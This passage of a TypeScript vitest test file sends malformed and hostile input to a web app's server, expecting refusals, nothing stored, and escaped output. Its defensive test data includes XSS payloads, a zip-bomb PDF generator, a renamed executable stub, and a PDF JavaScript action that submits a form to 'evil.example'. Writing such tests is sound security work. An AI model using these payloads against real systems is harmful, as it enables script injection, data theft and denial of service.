import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { constants as zlib, deflateRawSync } from "node:zlib";
import { QueryTypes } from "sequelize";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { Database } from "~/lib/db.server";
import { makePdf } from "../helpers/pdf";
import { baseUrl, get, post, serverDatabase, signInAs, upload, visibleText } from "../helpers/http";

/**
 * A corpus of bad input, sent over HTTP the way a browser (or someone editing a form by
 * hand) sends it, to the real server. Every case names the status it must get, the words
 * of the message a person reads, and what may change: every table not named stays exactly
 * as it was, row for row, and no file is left in storage. After each case the server
 * still answers. Cases run in order and share a few materials made in `beforeAll`.
 */

type Category = "pdf" | "type" | "length" | "markup" | "date" | "number" | "enum" | "double" | "replay" | "control" | "size";

interface Case {
  name: string;
  category: Category;
  /** Work before the measured request (not counted). */
  prepare?: () => Promise<void>;
  /** One request, or several sent at once (a double click). */
  send: () => Promise<Response | Response[]>;
  /** The status, or for requests sent at once, their statuses in ascending order. */
  status: number | number[];
  /** What the (refused) answer says, in words a person reads. */
  says: string | RegExp;
  /** Tables allowed to change, with their change in row count; every other table is untouched. */
  changes?: Record<string, number>;
  /** Files added to storage (0 unless the input is accepted). */
  files?: number;
  /** Markup that was accepted: the page shows it as text, never as markup. */
  shownOn?: { page: () => Promise<string>; raw: string; escaped: string };
  /** For a file that is accepted: what it was stored and is served as. */
  stored?: () => Promise<void>;
  cleanup?: () => Promise<void>;
}

// ---------------------------------------------------------------------------------------
// Hostile files, written by hand so that each is wrong in exactly one way.

/** A classic PDF from object bodies (object 1 is the catalog), with a correct xref table. */
function rawPdf(objects: string[], options: { trailer?: string; after?: string } = {}) {
  let body = "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("");
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ""}>>\nstartxref\n${xrefAt}\n%%EOF\n${options.after ?? ""}`;
  return Buffer.from(body, "latin1");
}
const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
const pages = (count: number | string) => `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`;

/** A cross-reference stream of deflated zeros that inflates to about `mb` MB: 1 KB of upload per MB claimed. */
function inflateBombPdf(mb: number) {
  const MB = 1024 * 1024;
  // Each flushed block is self-contained, so one block repeated is a valid stream of zeros.
  const block = deflateRawSync(Buffer.alloc(MB), { level: 9, finishFlush: zlib.Z_FULL_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((mb * MB) % 65521) * 65536 + 1) >>> 0);
  const data = Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(mb).fill(block), deflateRawSync(Buffer.alloc(0)), adler]);
  let head = "%PDF-1.7\n";
  const objects = [CATALOG, pages(1), PAGE];
  objects.forEach((o, i) => (head += `${i + 1} 0 obj\n${o}\nendobj\n`));
  const xrefAt = head.length;
  head += `4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head, "latin1"), data, Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, "latin1")]);
}

const PNG_1x1 = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
const ZIP = Buffer.concat([Buffer.from("PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000", "latin1"), Buffer.from("brochure.pdf".repeat(200))]);
const EXE = Buffer.concat([Buffer.from("MZ\u0090\u0000\u0003\u0000\u0000\u0000", "latin1"), Buffer.alloc(120), Buffer.from("This program cannot be run in DOS mode.\r\n"), Buffer.alloc(2048, 0x90)]);
const fixture = (name: string) => readFileSync(new URL(`../fixtures/${name}`, import.meta.url));

const LONG = "a".repeat(10_000);
const SCRIPT = `<script>alert("xss")</script>`;

// ---------------------------------------------------------------------------------------
// What the server stored.

/** Row count and a digest of the contents of every table of the server's database. */
async function snapshot(database: Database) {
  const tables = await database.sequelize.query<{ name: string }>(
    "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name",
    { type: QueryTypes.SELECT },
  );
  const result: Record<string, { rows: number; digest: string }> = {};
  for (const { name } of tables) {
    const rows = await database.sequelize.query(`SELECT * FROM "${name}" ORDER BY rowid`, { type: QueryTypes.SELECT });
    result[name] = { rows: rows.length, digest: createHash("sha1").update(JSON.stringify(rows)).digest("hex") };
  }
  return result;
}

/** Every file under the storage directory, half-written ones (`.part`) included. */
function storedFiles(): string[] {
  try {
    return readdirSync(inject("filesDir"), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => `${entry.parentPath}/${entry.name}`);
  } catch {
    return [];
  }
}

/** What a person reads in an answer: the page's text, or an upload's JSON messages. */
async function readAnswer(response: Response) {
  const raw = await response.text();
  const type = response.headers.get("content-type") ?? "";
  if (type.includes("application/json")) {
    const body = JSON.parse(raw) as { errors?: Record<string, string> };
    return { raw, text: Object.values(body.errors ?? {}).join(" ") };
  }
  return { raw, text: type.includes("text/html") ? visibleText(raw) : raw };
}

/** A POST with any body and content type, for forms no browser page would produce. */
function rawPost(path: string, contentType: string, body: string | Buffer, cookie: string) {
  return fetch(baseUrl() + path, {
    method: "POST",
    redirect: "manual",
    headers: { "Content-Type": contentType, Origin: baseUrl(), Cookie: cookie, Accept: "application/json" },
    body: typeof body === "string" ? body : new Uint8Array(body),
  });
}

/** A form with repeated fields (checkboxes, table rows), urlencoded as a browser sends it. */
function postMany(path: string, values: Record<string, string | string[]>, cookie: string) {
  const body = new URLSearchParams();
  for (const [key, value] of Object.entries(values)) for (const v of Array.isArray(value) ? value : [value]) body.append(key, v);
  return rawPost(path, "application/x-www-form-urlencoded", body.toString(), cookie);
}

const twice = (send: () => Promise<Response>) => Promise.all([send(), send()]);

// ---------------------------------------------------------------------------------------

describe("a corpus of bad input: a clear 4xx, nothing stored, the server still serving", () => {
  let database: Database;
  const c = {
    marketer: "",
    member1: "",
    member2: "",
    rep: "",
    admin: "",
    eastManager: "",
    marketingManager: "",
    vpSales: "",
    east: 0,
    west: 0,
    owner: 0,
    westRep: 0,
    base: { materialId: 0, versionId: 0 },
    deciding: { materialId: 0, roundId: 0 },
    dispute: { materialId: 0, escalationId: 0, versionId: 0, roundId: 0 },
    pdf: Buffer.alloc(0),
    v2: Buffer.alloc(0),
    token: "",
    parentCommentId: 0,
    answeredCommentId: 0,
    proposalId: 0,
    requestId: 0,
    westMaterialId: 0,
  };
  const YEAR = new Date().getUTCFullYear() + 2;
  const material = (path = "") => `/materials/${c.base.materialId}${path}`;
  const newMaterial = (patch: Record<string, string> = {}) => ({ title: "Bad input: brochure", kind: "collateral", teamIds: String(c.east), ...patch });
  const sendFile = (name: string, bytes: Uint8Array, fields: Record<string, string> = {}) => upload("/materials/upload", newMaterial(fields), { name, bytes }, c.marketer);
  const comment = (patch: Record<string, string> = {}) => ({
    intent: "comment",
    versionId: String(c.base.versionId),
    body: "The chart on page 2 has last year's numbers.",
    category: "product_accuracy",
    page: "2",
    x: "0.5",
    y: "0.25",
    ...patch,
  });
  const decision = (patch: Record<string, string> = {}) => ({ intent: "decide", roundId: String(c.deciding.roundId), decision: "approved", summary: "Accurate and on brand.", ...patch });
  const holiday = (patch: Record<string, string> = {}) => ({ intent: "add-holiday", date: "2033-07-04", name: "Bad input day", teamId: "", ...patch });
  const user = (patch: Record<string, string> = {}) => ({ name: "Casey Input", email: "casey.input@demo.test", role: "sales", reportsToId: "", timeZone: "America/New_York", ...patch });
  const prePlan = (patch: Record<string, string | string[]> = {}) => ({
    intent: "create",
    salesGoals: "Keep the top 40 accounts.",
    marketingGoals: "One case study a quarter.",
    presentationDate: `${YEAR}-01-15`,
    reviewerIds: [String(c.westRep)],
    strategiesWithoutSales: "None.",
    prospectProfile: "As today.",
    prospectProfileWhy: "It does not differ.",
    tacticChanges: "None.",
    strategyWhat: ["Partner breakfast"],
    strategyMetric: ["Meetings booked"],
    strategyTarget: ["12"],
    strategyOwnerId: [String(c.owner)],
    strategyDueDate: [`${YEAR}-11-30`],
    ...patch,
  });
  const upload1 = { materials: 1, material_versions: 1, material_teams: 1, audit_events: 1 };
  const materialRequest = (patch: Record<string, string> = {}) => ({ need: "Bad input: a pricing one-pager", customers: "Mid-market", neededBy: `${YEAR}-03-31`, ...patch });
  /** A rep's request, filed for the case to act on: a new one each time (the same one again files nothing). */
  let requestsFiled = 0;
  const fileRequest = async () => {
    const response = await upload("/requests/upload", materialRequest({ need: `Bad input: a pricing one-pager (${++requestsFiled})` }), null, c.rep);
    expect(response.status).toBe(201);
    c.requestId = Number((await response.json()).url.split("/").pop());
  };
  /** An accepted PDF: stored as the viewer's engine opened it, with its page count and restrictions. */
  const storedPdf = (title: string, expected: { pageCount: number; restrictions?: string | null }) => async () => {
    const material = (await database.models.Material.findOne({ where: { title } }))!;
    const version = (await database.models.MaterialVersion.findOne({ where: { materialId: material.id } }))!;
    expect(version).toMatchObject({ contentType: "application/pdf", restrictions: null, ...expected });
    const file = await get(`/files/${version.id}`, c.member1);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-type")).toBe("application/pdf");
  };
  /** Creates a user through the admin form and returns their one-time set-password token. */
  async function newUserToken(email: string) {
    const response = await post("/admin/users/new", user({ name: "Robin Replay", email }), c.admin);
    expect(response.status).toBe(302);
    const cookie = response.headers.get("set-cookie") ?? "";
    return /cp_link=\d+\.([A-Za-z0-9_-]+)/.exec(cookie)![1];
  }

  const CASES: Case[] = [
    // --- Malformed and hostile files -------------------------------------------------
    {
      name: "a PDF cut off at 60%",
      category: "pdf",
      send: () => sendFile("cut.pdf", c.pdf.subarray(0, Math.floor(c.pdf.length * 0.6))),
      status: 422,
      says: "This PDF is incomplete",
    },
    {
      name: "a PDF whose xref table is garbage (accepted: the viewer's engine rebuilds it, as viewers do)",
      category: "pdf",
      send: () => {
        const good = rawPdf([CATALOG, pages(1), PAGE]).toString("latin1");
        const bad = good.replace(/xref\n[\s\S]*?trailer/, "xref\nthis is not a cross-reference table at all\ntrailer");
        return sendFile("xref.pdf", Buffer.from(bad, "latin1"), { title: "Bad input: garbage xref" });
      },
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: storedPdf("Bad input: garbage xref", { pageCount: 1 }),
    },
    {
      name: "a PDF whose startxref points past its end (accepted: the viewer's engine rebuilds the cross-reference)",
      category: "pdf",
      send: () =>
        sendFile("far.pdf", Buffer.from(rawPdf([CATALOG, pages(1), PAGE]).toString("latin1").replace(/startxref\n\d+/, "startxref\n987654321"), "latin1"), {
          title: "Bad input: startxref past the end",
        }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: storedPdf("Bad input: startxref past the end", { pageCount: 1 }),
    },
    {
      name: "an encrypted PDF (user password)",
      category: "pdf",
      send: () => sendFile("secret.pdf", fixture("encrypted.pdf")),
      status: 422,
      says: "This PDF asks for a password to open. Save or export a copy without the password",
    },
    {
      name: "an encrypted PDF that opens without a password (accepted: the viewer opens it)",
      category: "pdf",
      send: () => sendFile("owner-only.pdf", fixture("encrypted-no-user-password.pdf"), { title: "Bad input: owner password only" }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      // Its owner password grants every permission: nothing is restricted.
      stored: storedPdf("Bad input: owner password only", { pageCount: 5, restrictions: null }),
    },
    {
      name: "a PDF header followed by an HTML page with script",
      category: "pdf",
      send: () => sendFile("page.pdf", Buffer.from(`%PDF-1.7\n<!doctype html><html><body>${SCRIPT.repeat(40)}</body></html>\n`)),
      status: 422,
      says: "This PDF is incomplete",
    },
    {
      name: "a PDF header, JavaScript, and a fake %%EOF",
      category: "pdf",
      send: () => sendFile("script.pdf", Buffer.from(`%PDF-1.4\n${"fetch('/admin/users').then(r => r.text()).then(alert);\n".repeat(30)}%%EOF\n`)),
      status: 422,
      says: "This PDF is incomplete",
    },
    {
      name: "a zip archive renamed .pdf",
      category: "pdf",
      send: () => sendFile("brochure.pdf", ZIP),
      status: 415,
      says: "This file is not a PDF, PNG image, JPEG image or WebP image.",
    },
    {
      name: "a Windows program renamed .pdf",
      category: "pdf",
      send: () => sendFile("brochure.pdf", EXE),
      status: 415,
      says: "the file's name does not matter, its content does",
    },
    {
      name: "a PNG cut short, renamed .pdf",
      category: "pdf",
      send: () => sendFile("logo.pdf", PNG_1x1.subarray(0, 40)),
      status: 422,
      says: "This PNG image is incomplete or damaged.",
    },
    {
      name: "a zero-byte file",
      category: "pdf",
      send: () => sendFile("empty.pdf", new Uint8Array(0)),
      status: 400,
      says: "The file is empty (0 bytes).",
    },
    {
      name: "a PDF that claims a billion pages (accepted with the one page it has, as the viewer counts it)",
      category: "pdf",
      send: () => sendFile("huge.pdf", rawPdf([CATALOG, pages(1_000_000_000), PAGE]), { title: "Bad input: a billion pages claimed" }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: storedPdf("Bad input: a billion pages claimed", { pageCount: 1 }),
    },
    {
      name: "a PDF that claims -3 pages",
      category: "pdf",
      send: () => sendFile("negative.pdf", rawPdf([CATALOG, pages(-3), PAGE])),
      status: 422,
      says: "This PDF is damaged: its structure could not be read, so the viewer could not open it either. Open it in the program that made it",
    },
    {
      name: "a PDF with arrays nested 5,000 deep in its catalog (accepted: the viewer opens it)",
      category: "pdf",
      send: () => sendFile("nested.pdf", rawPdf([`<< /Type /Catalog /Pages 2 0 R /Junk ${"[".repeat(5000)}${"]".repeat(5000)} >>`, pages(1), PAGE]), { title: "Bad input: deep arrays" }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: storedPdf("Bad input: deep arrays", { pageCount: 1 }),
    },
    {
      name: "a PDF whose page tree is a loop of references",
      category: "pdf",
      send: () => sendFile("loop.pdf", rawPdf(["<< /Type /Catalog /Pages 4 0 R >>", pages(1), PAGE, "5 0 R", "4 0 R"])),
      status: 422,
      says: "This PDF is damaged: its structure could not be read, so the viewer could not open it either. Open it in the program that made it",
    },
    {
      name: "a PDF whose xref stream inflates to 1.9 GB (a zip bomb), stopped at the time limit",
      category: "pdf",
      send: () => sendFile("bomb.pdf", inflateBombPdf(1900)),
      status: 422,
      says: /^This PDF took longer than \d+ seconds to open, so it was refused: a file built to overload a viewer \(a "PDF bomb"\)/,
    },
    {
      name: "a PDF with a JavaScript action on opening (accepted: stored and served as a PDF, never run)",
      category: "pdf",
      send: () =>
        sendFile(
          "actions.pdf",
          rawPdf([
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            pages(1),
            PAGE,
            "<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >>",
          ]),
          { title: "Bad input: PDF with JavaScript" },
        ),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: async () => {
        const material = (await database.models.Material.findOne({ where: { title: "Bad input: PDF with JavaScript" } }))!;
        const version = (await database.models.MaterialVersion.findOne({ where: { materialId: material.id } }))!;
        expect(version).toMatchObject({ contentType: "application/pdf", pageCount: 1 });
        const file = await get(`/files/${version.id}`, c.member1);
        expect(file.status).toBe(200);
        expect(file.headers.get("content-type")).toBe("application/pdf");
        expect(file.headers.get("x-content-type-options")).toBe("nosniff");
        const page = await get(`/materials/${material.id}`, c.member1);
        expect(page.status).toBe(200);
        expect(await page.text()).not.toContain("app.alert");
      },
    },
    {
      name: "a real PNG renamed .pdf (accepted as the image it is: the content decides, not the name)",
      category: "pdf",
      send: () => sendFile("logo.pdf", PNG_1x1, { title: "Bad input: PNG named .pdf" }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      stored: async () => {
        const material = (await database.models.Material.findOne({ where: { title: "Bad input: PNG named .pdf" } }))!;
        const version = (await database.models.MaterialVersion.findOne({ where: { materialId: material.id } }))!;
        // Kept under a name whose extension says what it is, so it opens as an image.
        expect(version).toMatchObject({ contentType: "image/png", pageCount: 1, fileName: "logo.pdf.png" });
        const file = await get(`/files/${version.id}`, c.member1);
        expect(file.headers.get("content-type")).toBe("image/png");
        expect(file.headers.get("x-content-type-options")).toBe("nosniff");
      },
    },
    {
      name: "a multipart form without a boundary",
      category: "type",
      send: () => rawPost("/materials/upload", "multipart/form-data", "--x\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHi\r\n--x--\r\n", c.marketer),
      status: 400,
      says: "The upload could not be read: the form arrived incomplete or malformed. Nothing was saved",
    },
    {
      name: "a multipart form cut off in the middle of the file",
      category: "type",
      send: () =>
        rawPost(
          "/materials/upload",
          "multipart/form-data; boundary=cut",
          Buffer.concat([
            Buffer.from(`--cut\r\nContent-Disposition: form-data; name="title"\r\n\r\nCut\r\n--cut\r\nContent-Disposition: form-data; name="kind"\r\n\r\ncollateral\r\n`),
            Buffer.from(`--cut\r\nContent-Disposition: form-data; name="teamIds"\r\n\r\n${c.east}\r\n--cut\r\nContent-Disposition: form-data; name="file"; filename="cut.pdf"\r\n\r\n`),
            c.pdf.subarray(0, 5000),
          ]),
          c.marketer,
        ),
      status: 400,
      says: "The upload could not be read: the form arrived incomplete or malformed. Nothing was saved",
    },
    {
      name: "an upload sent as a plain form, without the file",
      category: "type",
      send: () => post("/materials/upload", newMaterial(), c.marketer),
      status: 400,
      says: "Send the form as multipart/form-data with a file.",
    },
    {
      name: "a comment sent as JSON instead of a form",
      category: "type",
      send: () => rawPost(material(), "application/json", JSON.stringify(comment()), c.member1),
      status: 400,
      says: "The form could not be read: it was not sent the way the app's pages send forms. Nothing was changed.",
    },
    {
      name: "a sign-in form cut off in the middle of a multipart body",
      category: "type",
      send: () => rawPost("/login", "multipart/form-data; boundary=z", '--z\r\nContent-Disposition: form-data; name="email"\r\n\r\nadmin@demo.test', ""),
      status: 400,
      says: "The form could not be read",
    },

    // --- Wrong types ---------------------------------------------------------------------
    {
      name: "a team id that is a word",
      category: "type",
      send: () => sendFile("ok.pdf", c.pdf, { teamIds: "east" }),
      status: 400,
      says: "Choose sales teams from the list.",
    },
    {
      name: "a page number that is a word",
      category: "type",
      send: () => post(material(), comment({ page: "two" }), c.member1),
      status: 400,
      says: "The page must be a number.",
    },
    {
      name: "a pin position of NaN",
      category: "type",
      send: () => post(material(), comment({ x: "NaN" }), c.member1),
      status: 400,
      says: "The pin's x position must be a number.",
    },
    {
      name: "a category sent twice",
      category: "type",
      send: () => postMany(material(), { ...comment(), category: ["pricing", "other"] }, c.member1),
      status: 400,
      says: "Choose a category.",
    },
    // --- The workflow's own refusals: the wrong moment, the missing reason ----------------------
    {
      name: "a comment on a preview that has closed",
      category: "type",
      send: () => post(`/materials/${c.dispute.materialId}`, { ...comment({ body: "Late thought." }), versionId: String(c.dispute.versionId) }, c.member1),
      status: 409,
      says: /The preview of version 1 closed on .*, so it takes no new comments\./,
    },
    {
      name: "a decision on a preview that has closed",
      category: "type",
      send: () => post(`/materials/${c.dispute.materialId}`, { intent: "decide", roundId: String(c.dispute.roundId), decision: "changes_requested", summary: "Late." }, c.member2),
      status: 409,
      says: /This preview closed on .*; decisions are no longer taken\./,
    },
    {
      name: "a release over the committee's objection without a reason",
      category: "type",
      send: () => post(`/materials/${c.dispute.materialId}`, { intent: "release_over_objection", reason: "   " }, c.marketer),
      status: 400,
      says: "Say why the material should go out despite the committee's objection: the managers decide on it.",
    },
    {
      name: "a compromise without its text",
      category: "type",
      send: () => post(`/escalations/${c.dispute.escalationId}`, { decision: "compromise", note: "  " }, c.eastManager),
      status: 400,
      says: "Write the compromise: what marketing will change, and what stays.",
    },
    {
      name: "an edit of a material already submitted",
      category: "type",
      send: () => post(material(), { intent: "edit", title: "Renamed after the fact", description: "", teamIds: String(c.east) }, c.marketer),
      status: 409,
      says: "Only a draft can be edited",
    },
    {
      name: "withdrawing a preview that has closed",
      category: "type",
      send: () => post(`/materials/${c.dispute.materialId}`, { intent: "withdraw_preview" }, c.marketer),
      status: 409,
      says: "No preview of this material is running",
    },
    {
      name: "ticking off a comment that is not 'to check'",
      category: "type",
      send: () => post(material(), { intent: "check", commentId: String(c.parentCommentId), check: "done" }, c.member1),
      status: 409,
      says: "There is nothing to check on this comment",
    },
    {
      name: "a holiday for a team named by a word",
      category: "type",
      send: () => post("/admin/calendar", holiday({ teamId: "east" }), c.admin),
      status: 400,
      says: "Choose one from the list.",
    },
    {
      name: "a manager id that is a word",
      category: "type",
      send: () => post("/admin/users/new", user({ reportsToId: "the boss" }), c.admin),
      status: 400,
      says: "Choose one from the list.",
    },

    // --- Overlong text ---------------------------------------------------------------------
    {
      name: "a title of 10,000 characters",
      category: "length",
      send: () => sendFile("ok.pdf", c.pdf, { title: LONG }),
      status: 400,
      says: "A title has at most 200 characters.",
    },
    {
      name: "a description of 100,000 characters (over the field limit)",
      category: "length",
      send: () => sendFile("ok.pdf", c.pdf, { description: "d".repeat(100_000) }),
      status: 400,
      says: 'The field "description" is too long.',
    },
    {
      name: "a comment of 10,000 characters",
      category: "length",
      send: () => post(material(), comment({ body: LONG }), c.member1),
      status: 400,
      says: "A comment has at most 5,000 characters.",
    },
    {
      name: "a reply of 10,000 characters",
      category: "length",
      send: () => post(material(), { intent: "reply", commentId: String(c.parentCommentId), body: LONG }, c.marketer),
      status: 400,
      says: "A comment has at most 5,000 characters.",
    },
    {
      name: "a change note of 10,000 characters",
      category: "length",
      send: () => upload(material("/upload"), { changeNote: LONG }, { name: "v2.pdf", bytes: c.pdf }, c.marketer),
      status: 400,
      says: "A change note has at most 2,000 characters.",
    },
    {
      name: "a decision summary of 10,000 characters",
      category: "length",
      send: () => post(`/materials/${c.deciding.materialId}`, decision({ summary: LONG }), c.member2),
      status: 400,
      says: "A summary has at most 2,000 characters.",
    },
    {
      name: "an escalation note of 10,000 characters",
      category: "length",
      send: () => post(`/escalations/${c.dispute.escalationId}`, { decision: "compromise", note: LONG }, c.eastManager),
      status: 400,
      says: "A decision note has at most 4,000 characters.",
    },
    {
      name: "a holiday name of 10,000 characters",
      category: "length",
      send: () => post("/admin/calendar", holiday({ name: LONG }), c.admin),
      status: 400,
      says: "A holiday's name has at most 100 characters.",
    },
    {
      name: "a user's name of 10,000 characters",
      category: "length",
      send: () => post("/admin/users/new", user({ name: LONG }), c.admin),
      status: 400,
      says: "A name has at most 120 characters.",
    },
    {
      name: "pre-plan sales goals of 10,000 characters",
      category: "length",
      send: () => postMany(`/plans/${c.west}/${YEAR}`, prePlan({ salesGoals: LONG }), c.marketer),
      status: 400,
      says: "Sales goals has at most 5,000 characters.",
    },
    {
      name: "a library search of 10,000 characters",
      category: "length",
      send: () => get(`/library?q=${LONG}`, c.rep),
      status: 200,
      says: "Your search was shortened to its first 200 characters.",
    },

    // --- Control characters: refused at one place, never stored ------------------------
    {
      name: "a NUL byte in the sign-in email (signed out)",
      category: "control",
      send: () => fetch(`${baseUrl()}/login`, { method: "POST", redirect: "manual", headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: baseUrl() }, body: "email=east.rep1%00%40demo.test&password=preview-demo" }),
      status: 400,
      says: "invisible control characters (such as NUL",
    },
    {
      name: "a NUL byte in a comment",
      category: "control",
      send: () => post(material(), comment({ body: "The price\u0000 is wrong." }), c.member1),
      status: 400,
      says: "This text contains invisible control characters (such as NUL), which cannot be saved.",
    },
    {
      name: "an escape character in a material's title (upload)",
      category: "control",
      send: () => sendFile("deck.pdf", c.pdf, { title: "Deck \u001b[31mred" }),
      status: 400,
      says: "This contains invisible control characters (such as NUL, a tab or a line break), which cannot be saved here.",
    },
    {
      name: "a line break in a material's title (upload)",
      category: "control",
      send: () => sendFile("deck.pdf", c.pdf, { title: "Deck\r\nBCC: everyone" }),
      status: 400,
      says: "cannot be saved here",
    },
    {
      name: "a NUL byte in a library search",
      category: "control",
      send: () => get("/library?q=brochure%00", c.rep),
      status: 400,
      says: "This address contains invisible control characters (such as NUL), so it was refused.",
    },
    {
      name: "a NUL byte in a new user's name",
      category: "control",
      send: () => post("/admin/users/new", user({ name: "Casey\u0000Input", email: "casey.nul@demo.test" }), c.admin),
      status: 400,
      says: "cannot be saved here",
    },
    {
      name: "a NUL byte in a new team's name",
      category: "control",
      send: () => post("/admin/teams/new", { intent: "save", name: "Null\u0000Team", timeZone: "Europe/Paris", salesManagerId: "" }, c.admin),
      status: 400,
      says: "cannot be saved here",
    },
    {
      name: "a tab in a holiday's name",
      category: "control",
      send: () => post("/admin/calendar", holiday({ name: "Bad\tday" }), c.admin),
      status: 400,
      says: "cannot be saved here",
    },

    // --- Bodies over the limit: refused while they arrive ------------------------------
    {
      name: "a 1 MB form posted to the sign-in page (signed out)",
      category: "size",
      send: () => fetch(`${baseUrl()}/login`, { method: "POST", redirect: "manual", headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: baseUrl() }, body: `password=x&email=${"a".repeat(1024 * 1024)}` }),
      status: 413,
      says: "The form is larger than the limit of 64 KB, so nothing was saved.",
    },
    {
      name: "a 2 MB comment sent without a Content-Length (chunked)",
      category: "size",
      send: () => {
        const body = new URLSearchParams(comment({ body: "x".repeat(2 * 1024 * 1024) })).toString();
        const stream = new ReadableStream({
          start(controller) {
            for (let i = 0; i < body.length; i += 64 * 1024) controller.enqueue(new TextEncoder().encode(body.slice(i, i + 64 * 1024)));
            controller.close();
          },
        });
        return fetch(baseUrl() + material(), { method: "POST", redirect: "manual", headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: baseUrl(), Cookie: c.member1 }, body: stream, duplex: "half" } as RequestInit);
      },
      status: 413,
      says: "The form is larger than the limit of 64 KB",
    },
    {
      name: "a pre-plan with 31 lead strategies",
      category: "size",
      send: () =>
        postMany(
          `/plans/${c.west}/${YEAR}`,
          prePlan({
            strategyWhat: Array.from({ length: 31 }, (_, i) => `Strategy ${i + 1}`),
            strategyMetric: Array.from({ length: 31 }, () => "Meetings"),
            strategyTarget: Array.from({ length: 31 }, () => "3"),
            strategyOwnerId: Array.from({ length: 31 }, () => String(c.owner)),
            strategyDueDate: Array.from({ length: 31 }, () => `${YEAR}-11-30`),
          }),
          c.marketer,
        ),
      status: 400,
      says: "A pre-plan has at most 30 lead strategies (this one has 31).",
    },

    // --- Markup and script: kept as text, shown escaped ----------------------------------
    {
      name: "a comment that is a script",
      category: "markup",
      send: () => post(material(), comment({ body: `${SCRIPT} Price is wrong` }), c.member1),
      status: 200,
      says: "",
      // The material's owner is told of the new comment.
      changes: { comments: 1, audit_events: 1, notifications: 1, outbox_messages: 1 },
      shownOn: { page: async () => (await get(material(), c.marketer)).text(), raw: SCRIPT, escaped: "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt; Price is wrong" },
    },
    {
      name: "a material title that is a script",
      category: "markup",
      send: () => sendFile("title.pdf", c.pdf, { title: `${SCRIPT} Q3 deck` }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      shownOn: { page: async () => (await get("/materials", c.rep)).text(), raw: SCRIPT, escaped: "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt; Q3 deck" },
    },
    {
      name: "a file name with an img tag",
      category: "markup",
      send: () => sendFile(`"><img src=x onerror=alert(1)>.pdf`, c.pdf, { title: "Bad input: file name" }),
      status: 201,
      says: "",
      changes: upload1,
      files: 1,
      shownOn: {
        page: async () => {
          const newest = await database.models.Material.findOne({ where: { title: "Bad input: file name" } });
          return (await get(`/materials/${newest!.id}`, c.marketer)).text();
        },
        raw: "<img src=x onerror=alert(1)>",
        // A browser sends the quote in a file name as %22, as fetch does here.
        escaped: "%22&gt;&lt;img src=x onerror=alert(1)&gt;.pdf",
      },
    },
    {
      name: "a user's name that is a script",
      category: "markup",
      send: () => post("/admin/users/new", user({ name: `${SCRIPT} Sam`, email: "sam.script@demo.test" }), c.admin),
      status: 302,
      says: "",
      changes: { users: 1, password_tokens: 1, outbox_messages: 1, audit_events: 1 },
      shownOn: { page: async () => (await get("/admin/users", c.admin)).text(), raw: SCRIPT, escaped: "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt; Sam" },
    },
    {
      name: "a library search and kind that are scripts",
      category: "markup",
      send: () => get(`/library?q=${encodeURIComponent(SCRIPT)}&kind=${encodeURIComponent("<svg onload=alert(1)>")}`, c.rep),
      status: 200,
      says: "“<svg onload=alert(1)>” is not a kind of material; showing every kind.",
      shownOn: {
        page: async () => (await get(`/library?q=${encodeURIComponent(SCRIPT)}&kind=${encodeURIComponent("<svg onload=alert(1)>")}`, c.rep)).text(),
        raw: "<svg onload=alert(1)>",
        escaped: "&lt;svg onload=alert(1)&gt;",
      },
    },

    // --- Invalid and reversed dates ----------------------------------------------------------
    {
      name: "a holiday on February 30",
      category: "date",
      send: () => post("/admin/calendar", holiday({ date: "2033-02-30" }), c.admin),
      status: 400,
      says: "Enter a date as YYYY-MM-DD.",
    },
    {
      name: "a holiday written day-first",
      category: "date",
      send: () => post("/admin/calendar", holiday({ date: "31/12/2033" }), c.admin),
      status: 400,
      says: "Enter a date as YYYY-MM-DD.",
    },
    {
      name: "a pre-plan presented in the past",
      category: "date",
      send: () => postMany(`/plans/${c.west}/${YEAR}`, prePlan({ presentationDate: "2020-01-01" }), c.marketer),
      status: 400,
      says: "The presentation date 2020-01-01 is in the past.",
    },
    {
      name: "a lead strategy due in month 13",
